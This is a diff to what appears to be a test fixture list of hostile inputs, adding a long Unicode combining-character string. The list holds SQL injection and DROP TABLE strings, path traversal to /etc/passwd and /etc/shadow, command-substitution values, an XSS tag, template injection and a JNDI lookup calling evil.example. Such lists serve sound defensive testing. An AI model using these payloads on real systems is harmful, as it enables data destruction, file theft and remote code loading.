@@ -56,7 +56,7 @@ HOSTILE = [
     *("$1", "$$", "/* */", "0x10"),
     *("'; DROP TABLE users; --", '"; DROP TABLE users; --', "') OR 1=1 --", "1 UNION SELECT password_hash FROM users"),
     *("\0", "a\0b", "\ud800", "a\udfffb", "\ufeff", "\u202egnp", "\u2028", "\x1b[31m", "İ", "ß ﬁ Å"),
-    *("e" + "\u0301" * 2_000, "\ufdfa" * 2_000, "🐘" * 1_000),
+    *("e" + "\u0301" * 2_000, "e@x" + "\u0301" * 40_000 + "\u0316" * 40_000, "\ufdfa" * 2_000, "🐘" * 1_000),
     *("../../../../etc/passwd", "/etc/passwd", "..", ".", "~root", "file:///etc/passwd", "file:/etc/shadow"),
     *("env:PATH", "env:", "file:", "@", "://", ":" * 500),
     *("-h", "--help", "-c id", "$(id)", "`id`", "| id", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}"),
